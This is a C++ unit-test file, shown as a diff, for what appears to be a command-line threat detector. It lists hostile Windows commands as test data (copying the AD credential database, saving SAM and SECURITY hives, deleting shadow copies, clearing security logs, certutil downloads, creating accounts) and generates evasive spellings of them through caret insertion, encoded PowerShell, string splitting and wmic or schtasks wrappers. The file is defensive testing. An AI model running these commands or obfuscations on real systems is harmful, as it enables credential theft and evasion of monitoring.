@@ -1,0 +1,235 @@
+// One meaning, many spellings: lines are spelt in every way that the program itself takes, by a seeded
+// generator, and must all give the same action; near misses spelt in the same ways must not.
+//
+// LW_SEED chooses the seed; it is printed when something fails.
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <cstdlib>
+#include <random>
+#include <set>
+
+#include "base/text.h"
+#include "command/reading_testing.h"
+
+namespace landwarden::command {
+namespace {
+
+/// A line in pieces: "w:interface/int/i" a word with its short forms, "o:/for=C:" an option, "k:port=1" a tag
+/// whose place among its neighbours does not matter, "v:x" a value that stays as it is.
+struct Spelt {
+  std::string_view action;    ///< that must be found; with near_miss: that must not
+  std::string_view original;  ///< OriginalFileName
+  std::string_view program, pieces;
+  bool near_miss = false;
+};
+
+constexpr Spelt kLines[] = {
+    {"ntds_copy", "ntdsutil.exe", "ntdsutil",
+     "w:activate/activ/ac w:instance/inst/in/i v:ntds w:ifm/if w:create/creat/cr w:full/ful/fu "
+     "v:C:\\Windows\\Temp\\pro w:quit/q w:q"},
+    {"shadow_copy_create", "ntdsutil.exe", "ntdsutil",
+     "w:snapshot/snap/sn w:activate/ac w:instance/i v:ntds w:create/cr w:quit/q w:q"},
+    {"shadow_copy_create", "VSSADMIN.EXE", "vssadmin", "w:create w:shadow o:/for=C:"},
+    {"shadow_copy_delete", "VSSADMIN.EXE", "vssadmin", "w:delete w:shadows o:/all o:/quiet"},
+    {"port_proxy_add", "netsh.exe", "netsh",
+     "w:interface/inter/int/i w:portproxy/portp/por w:add/ad/a w:v4tov4/v4 k:listenport=9999 "
+     "k:listenaddress=0.0.0.0 "
+     "k:connectaddress=10.1.2.3 k:connectport=8443"},
+    {"port_proxy_delete", "netsh.exe", "netsh",
+     "w:interface/int w:portproxy/portp w:delete/del/d w:v4tov4/v4 k:listenport=9999 "
+     "k:listenaddress=0.0.0.0"},
+    {"firewall_off", "netsh.exe", "netsh", "w:advfirewall/advf w:set/s w:allprofiles/allp w:state/st w:off"},
+    {"hive_save", "reg.exe", "reg", "w:save v:hklm\\sam v:C:\\x\\ss.dat o:/y"},
+    {"hive_save", "reg.exe", "reg", "w:save v:HKEY_LOCAL_MACHINE\\SECURITY v:se.dat"},
+    {"directory_export", "ldifde.exe", "ldifde", "o:-f v:c:\\windows\\temp\\up.txt o:-p v:subtree"},
+    {"domain_trust_list", "nltestrk.exe", "nltest", "o:/domain_trusts o:/all_trusts"},
+    {"group_list", "net.exe", "net", "w:group v:Domain_Admins o:/domain/dom"},
+    {"account_create", "net1.exe", "net1", "w:user v:op7 v:Pa55w0rd o:/add"},
+    {"eventlog_clear", "wevtutil.exe", "wevtutil", "w:clear-log/cl v:Security"},
+    {"logon_events_read", "wevtutil.exe", "wevtutil",
+     "w:query-events/qe v:security o:/rd:true o:/q:*[System[EventID=4624]]"},
+    {"task_create", "schtasks.exe", "schtasks", "o:/create o:/tn v:upd o:/tr v:c:\\x.bat o:/sc v:onlogon"},
+    {"service_create", "sc.exe", "sc", "w:create v:upd w:binpath= v:c:\\x.exe"},
+    {"download", "CertUtil.exe", "certutil", "o:-urlcache o:-split o:-f v:http://203.0.113.9/a v:c:\\a"},
+    {"archive_create_protected", "7z.exe", "7z", "w:a v:-pPa55 v:c:\\x.7z v:c:\\plans"},
+    {"self_query", "whoami.exe", "whoami", "o:/all"},
+    {"recovery_disable", "bcdedit.exe", "bcdedit", "o:/set v:{default} w:recoveryenabled w:no"},
+
+    {"ntds_copy", "ntdsutil.exe", "ntdsutil",
+     "w:activate/ac w:instance/i v:ntds w:files/fi w:info w:quit/q w:q", true},
+    {"port_proxy_add", "netsh.exe", "netsh", "w:interface/int w:portproxy/portp w:show w:all", true},
+    {"shadow_copy_create", "VSSADMIN.EXE", "vssadmin", "w:list w:shadows o:/for=C:", true},
+    {"hive_save", "reg.exe", "reg", "w:save v:HKLM\\SOFTWARE\\Meterwerk v:mw.hiv", true},
+    {"account_create", "net1.exe", "net", "w:user v:op7 o:/domain/dom", true},
+    {"eventlog_clear", "wevtutil.exe", "wevtutil", "w:get-log/gl v:Security", true},
+    {"archive_create_protected", "7z.exe", "7z", "w:a v:c:\\x.7z v:c:\\plans", true},
+    {"recovery_disable", "bcdedit.exe", "bcdedit", "o:/enum v:{default}", true},
+    {"service_create", "sc.exe", "sc", "w:query v:upd", true},
+};
+
+class Speller {
+ public:
+  explicit Speller(std::uint64_t seed) : random_(seed) {}
+
+  Input spell(const Spelt& line, std::string& text, std::string& image);
+
+ private:
+  bool maybe(unsigned one_in) { return random_() % one_in == 0; }
+  template <class T>
+  const T& one_of(const std::vector<T>& all) {
+    return all[random_() % all.size()];
+  }
+  std::string cased(std::string_view text);
+  std::string program(std::string_view name);
+  std::string arguments(const Spelt& line);
+  std::string piece(char kind, std::string_view text);
+  std::string with_carets(std::string_view text);
+  std::string wrapped(const Spelt& line, const std::string& text);
+
+  std::mt19937_64 random_;
+};
+
+std::string Speller::cased(std::string_view text) {
+  std::string out(text);
+  const auto way = random_() % 4;
+  for (char& c : out) {
+    const bool up = way == 1 || (way == 2 && maybe(2));
+    if (up && c >= 'a' && c <= 'z') c = static_cast<char>(c - 32);
+    if (way == 3) c = text::ascii_lower(c);
+  }
+  return out;
+}
+
+std::string Speller::program(std::string_view name) {
+  const std::string plain(name);
+  const std::string path = "C:\\Windows\\System32\\" + plain + ".exe";
+  return cased(one_of<std::string>({plain, plain + ".exe", path, "\"" + path + "\"", "\"" + plain + "\""}));
+}
+
+std::string Speller::piece(char kind, std::string_view text) {
+  if (kind == 'v') return std::string(text);
+  if (kind == 'k') return cased(text.substr(0, text.find('='))) + std::string(text.substr(text.find('=')));
+  std::vector<std::string> forms;
+  const char dash = kind == 'o' ? text.front() : '\0';
+  std::string_view rest = dash == '\0' ? text : text.substr(1);
+  while (true) {
+    const std::size_t slash = rest.find('/');
+    forms.emplace_back(rest.substr(0, slash));
+    if (slash == std::string_view::npos) break;
+    rest.remove_prefix(slash + 1);
+  }
+  std::string form = one_of(forms);
+  if (dash == '\0') return cased(form);
+  const std::size_t value = form.find_first_of(":=");
+  const std::string name = cased(form.substr(0, value));
+  return one_of<std::string>({"/", "-"}) + name + (value == std::string::npos ? "" : form.substr(value));
+}
+
+std::string Speller::arguments(const Spelt& line) {
+  std::vector<std::string> out, tags;
+  const auto flush = [&] {
+    std::ranges::shuffle(tags, random_);
+    out.insert(out.end(), tags.begin(), tags.end());
+    tags.clear();
+  };
+  std::string_view rest = line.pieces;
+  while (!rest.empty()) {
+    const std::size_t end = std::min(rest.find(' '), rest.size());
+    const std::string_view piece_text = rest.substr(0, end);
+    rest.remove_prefix(std::min(end + 1, rest.size()));
+    std::string made = piece(piece_text[0], piece_text.substr(2));
+    if (maybe(5) && !made.ends_with('\\')) made = "\"" + made + "\"";
+    if (piece_text[0] == 'k') {
+      tags.push_back(std::move(made));
+    } else {
+      flush();
+      out.push_back(std::move(made));
+    }
+  }
+  flush();
+  std::string text;
+  for (const std::string& word : out) text += std::string(1 + (maybe(4) ? random_() % 3 : 0), ' ') + word;
+  return text;
+}
+
+std::string Speller::with_carets(std::string_view text) {
+  std::string out;
+  bool inside = false;
+  for (const char c : text) {
+    if (c == '"') inside = !inside;
+    if (!inside && ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) && maybe(3)) out += '^';
+    out += c;
+  }
+  return out;
+}
+
+/// The line inside something that starts it.
+std::string Speller::wrapped(const Spelt& line, const std::string& text) {
+  const bool quotes = text.contains('"');
+  // PowerShell knows another "sc".
+  switch (line.program == "sc" ? 3 + random_() % 5 : random_() % 8) {
+    case 0:
+      return cased(one_of<std::string>({"cmd /c ", "cmd.exe /q /c ", "cmd /d/s/c "})) +
+             (text.starts_with('"') ? "\"" + with_carets(text) + "\"" : with_carets(text));
+    case 1: {
+      const std::string option = std::string("encodedcommand").substr(0, 1 + random_() % 14);
+      const std::string dash = one_of<std::string>({"-", "/", "\u2013", "\u2014", "\u2015"});
+      if (line.pieces.contains('{')) return text;
+      return cased("powershell") + " -nop " + dash + cased(option) + " " +
+             encoded_command(text.starts_with('"') ? "& " + text : text);
+    }
+    case 2:
+      if (quotes || line.pieces.contains('{') || text.contains('\'')) return text;
+      return "powershell -c \"iex ('" + text.substr(0, text.size() / 2) + "'+'" +
+             text.substr(text.size() / 2) + "')\"";
+    case 3:
+      if (quotes || text.contains("%")) return text;
+      return "cmd /c \"set q=" + text.substr(0, text.size() / 2) + "&&set r=" + text.substr(text.size() / 2) +
+             "&&call %q%%r%\"";
+    case 4:
+      if (quotes) return text;
+      return "wmic process call create \"" + text + "\"";
+    case 5:
+      if (quotes) return text;
+      return "schtasks /create /sc once /tn a /tr \"cmd /c " + text + "\"";
+    default:
+      return text;
+  }
+}
+
+Input Speller::spell(const Spelt& line, std::string& text, std::string& image) {
+  if (maybe(5)) {  // another name, the maker's in the record
+    image = "C:\\ProgramData\\upd" + std::to_string(random_() % 100) + ".exe";
+    text = image + arguments(line);
+    return {.line = text, .image = image, .original_name = line.original, .origin = Origin::process};
+  }
+  text = wrapped(line, program(line.program) + arguments(line));
+  return {.line = text, .origin = Origin::process};
+}
+
+TEST(Spellings, AllMeanTheSame) {
+  constexpr int kEach = 400;
+  const char* chosen = std::getenv("LW_SEED");
+  const std::uint64_t seed = chosen != nullptr ? std::strtoull(chosen, nullptr, 10) : 20260302;
+  SCOPED_TRACE("LW_SEED=" + std::to_string(seed));
+  std::uint64_t number = 0;
+  for (const Spelt& line : kLines) {
+    std::set<std::string> distinct;
+    for (int i = 0; i < kEach; ++i) {
+      Speller speller(seed * 1'000'003 + number++);
+      std::string text, image;
+      const Input input = speller.spell(line, text, image);
+      distinct.insert(text);
+      const Reading reading = read(input);
+      EXPECT_EQ(reading.has(line.action), !line.near_miss)
+          << line.action << (line.near_miss ? " (near miss)" : "") << "\n  " << text;
+      if (::testing::Test::HasFailure()) return;
+    }
+    EXPECT_GT(distinct.size(), 50u) << line.pieces;
+  }
+}
+
+}  // namespace
+}  // namespace landwarden::command
